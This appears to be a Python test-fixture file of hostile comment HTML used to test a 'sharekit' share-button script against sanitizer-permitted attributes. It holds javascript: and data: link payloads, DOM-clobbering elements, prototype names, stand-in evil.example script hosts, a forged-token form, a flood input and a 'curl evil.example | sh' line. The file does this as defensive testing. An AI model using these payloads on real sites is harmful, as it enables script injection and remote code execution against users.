"""What a commenter may write where a sanitizer keeps data attributes, names and ids.

DOMPurify's defaults do; nh3 and bleach do where a site allows the attributes.
"""

from typing import Final

POLICIES: Final = {
    "none": "",
    "inline": "script-src 'self' 'unsafe-inline'",
    "self": "default-src 'self'; require-trusted-types-for 'script'; trusted-types sharekit",
    "nonce": (
        "script-src 'nonce-{nonce}' 'strict-dynamic'; require-trusted-types-for 'script'; "
        "trusted-types sharekit"
    ),
}
"""Content Security Policies by what they allow."""
NONCE: Final = "bm90IHJhbmRvbQ"

SIGNATURE: Final = "g1e:" + "A" * 43
"""A day, and what no secret made of it."""
_FAKE: Final = f'data-sharekit="x {{site}}/paste/ t:{SIGNATURE}"'
_PLAIN: Final = 'href="{site}/paste/#sk=w"'
_RUN: Final = "javascript:document.title='XSS';void 0//{site}/paste/#sk=w"

LINKS: Final = {
    "foreign key": (
        f'<span data-sharekit="x https://a.example/ t:g1e:x"><a {_PLAIN} data-sharekit-channel="w" '
        f'data-sharekit-href="{_RUN}">photos</a></span>'
    ),
    "own key": f'<a {_PLAIN} data-sharekit-channel="w" data-sharekit-href="{_RUN}">photos</a>',
    "app": f'<a {_PLAIN} data-sharekit-channel="w" data-sharekit-app="{_RUN}">photos</a>',
    "data": (
        f'<a {_PLAIN} data-sharekit-channel="w" '
        'data-sharekit-href="data:text/html,x#{site}/paste/#sk=w">photos</a>'
    ),
    "key that is code": (
        f'<span data-sharekit="x {_RUN} t:{SIGNATURE}">'
        f'<a {_PLAIN} data-sharekit-channel="w">photos</a></span>'
    ),
    "key that is code with our host": (
        f'<span data-sharekit="x javascript://{{host}}/%0Aalert(1) t:{SIGNATURE}">'
        f'<a {_PLAIN} data-sharekit-channel="w">photos</a></span>'
    ),
    "object's own names": (
        f'<a {_PLAIN} data-sharekit-channel="__proto__">photos</a>'
        f'<a {_PLAIN} data-sharekit-channel="constructor">photos</a>'
    ),
    "a form with the names of its properties": (
        f'<form {_FAKE}><a {_PLAIN} data-sharekit-channel="w">photos</a>'
        '<input name="dataset"><input name="querySelector"></form>'
    ),
}
"""Share buttons of a comment, each in a bar of its own where it has none."""

_EVIL: Final = (
    'data-copy="{evil}/evil.js" data-more="{evil}/evil.js" data-menu="{evil}/evil.js" '
    'data-events="{evil}/events" data-parts="{evil}/parts?" data-source="Evil {{title}}" '
)
# What the script or its loading asks of the document.
NAMES: Final = (
    *("body", "head", "documentElement", "createElement", "dispatchEvent", "querySelector"),
    *("querySelectorAll", "referrer", "prerendering", "execCommand", "addEventListener", "scripts"),
    # What more.js asks of all around a passage, the document last.
    *("host", "matches", "dataset", "id", "contains", "parentNode", "textContent", "nodeType"),
)
# What the scripts ask of the elements of a page: a form's own are hidden by its fields.
FIELDS: Final = (
    *("alt", "childNodes", "checkVisibility", "closest", "contains", "data", "dataset", "dir"),
    *("firstChild", "getRootNode", "hidden", "host", "href", "id", "lang", "localName", "matches"),
    *("nodeType", "open", "parentNode", "querySelector", "querySelectorAll", "rows", "select"),
    *("shadowRoot", "splitText", "src", "start", "textContent", "title"),
)
_INPUTS: Final = "".join(f'<input type="hidden" name="{name}">' for name in FIELDS)
COMMENTS: Final = {
    "nothing": "Well said.",
    "links": "".join(
        html if "data-sharekit=" in html else f"<span {_FAKE}>{html}</span>"
        for html in LINKS.values()
    ),
    # The evil address is asked for by nothing but a script that was taken in.
    "script": f'<img name="currentScript" {_EVIL} alt=""><img id="currentScript" {_EVIL} alt="">',
    **{name: f'<img name="{name}" {_EVIL} alt="">' for name in NAMES},
    "sharekit": (
        f'<form name="sharekit" {_EVIL}><input name="pageview"><input name="_tools"></form>'
        f'<a id="sharekit" href="{{evil}}/"></a>'
        f'<a id="sharekit" name="pageview" href="{{evil}}/"></a>'
    ),
    "foreign-article": (
        f'<div data-sharekit="x https://evil.example/ The real story:{SIGNATURE}">hi</div>'
    ),
    "foreign-host": (
        f'<div data-sharekit="x https:///evil.example/ The real story:{SIGNATURE}">hi</div>'
    ),
    "other-tenant": f'<i data-sharekit="x http://localhost/p/ The real story:{SIGNATURE}">hi</i>',
    # As many marks as keep a look at each of them busy for minutes.
    "flood": (
        f'<span data-sharekit="x {{address}} t:{SIGNATURE}"><a data-sharekit-channel="w" '
        f'href="{{site}}/paste/?{"&sk=w" * 400_000}">photos</a></span>'
    ),
    "lines": (
        f'<span data-sharekit="x {{site}}/paste/ y&#10;curl evil.example | sh&#13;#:{SIGNATURE}">'
        "</span>"
    ),
    "odd": (
        f'<span data-sharekit="x {{site}}/paste/ y&#27;[201~&#7;&#x202e;z:{SIGNATURE}"></span>'
    ),
    "odd-address": (
        f'<span data-sharekit="x {{site}}/paste/&#27;[201~/ Money:{SIGNATURE}"></span>'
    ),
    "base": '<base href="/paste/">',
    "foreign-base": '<base href="{evil}/">',
    "form": f'<form data-sharekit-article="x">{_INPUTS}<p id="inside">Many a word.</p></form>',
    "images": "".join(f'<form><img id="{name}"></form>' for name in FIELDS),
    "fields": "".join(f'<form><input type="hidden" name="{name}"></form>' for name in FIELDS),
    "pair": '<form><input type="hidden" name="alt"><input type="hidden" name="alt"></form>',
    "bar": (
        f'<form {_FAKE}><input type="hidden" name="querySelector">'
        f"<a {_PLAIN} data-sharekit-channel=copy-link>photos</a></form>"
    ),
    "halved": f'<p id="{"a" * 63}😀">A long walk.</p>',
    # A page in parts, whose tag names the whole.
    "part": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
    # A page whose tag names its article by the address only.
    "untitled": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
    "own-article": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
    # The page of these has a form of its own, with the field for the token.
    "carry": (
        '<form action="{evil}/"><input id="forged" name="sharekit_token" autocomplete="off"></form>'
        '<input id="before" name="sharekit_token"><b data-sharekit-carry="field">photos</b>'
        '<input name="sharekit_token" form="order-form" value="wForged1111">'
        + "".join(
            f'<a data-sharekit-carry href="{address}">photos</a>'
            for address in (
                "{evil}/paste/",
                "//{evil_host}/paste/",
                "https://{host}/paste/",
                "javascript:document.title='XSS'",
                "data:text/html,x",
                "mailto:x@evil.example",
            )
        )
        + '<form data-sharekit-carry id="box"><input name="origin"><input name="getAttribute">'
        '<input name="setAttribute"><input name="closest"></form>'
    ),
    "carry-base": '<base href="{evil}/"><a data-sharekit-carry href="/paste/">photos</a>',
    "carry-fields": (
        '<input type="hidden" name="form" form="order-form">'
        '<input type="hidden" name="value" form="order-form">'
        '<input type="hidden" name="submit" form="order-form">'
    ),
    "carry-sharekit": (
        '<a id="sharekit" href="{evil}/"></a><form name="sharekit"><input name="k"></form>'
    ),
    "carry-script": f'<img name="currentScript" {_EVIL} alt=""><img name="scripts" alt="">',
    "carry-names": "".join(
        f'<img name="{name}" alt="">'
        for name in ("querySelectorAll", "addEventListener", "prerendering", "readyState")
    ),
    "opt-out": (
        '<a id="link" href="#" data-sharekit-opt-out>photos</a>'
        '<span id="span" data-sharekit-opt-out>photos</span>'
        # DOMPurify keeps it, too: docs/security.md says what the site must do.
        '<button id="button" type="button" data-sharekit-opt-out>Do not count me</button>'
    ),
}
"""Comments by what they try."""
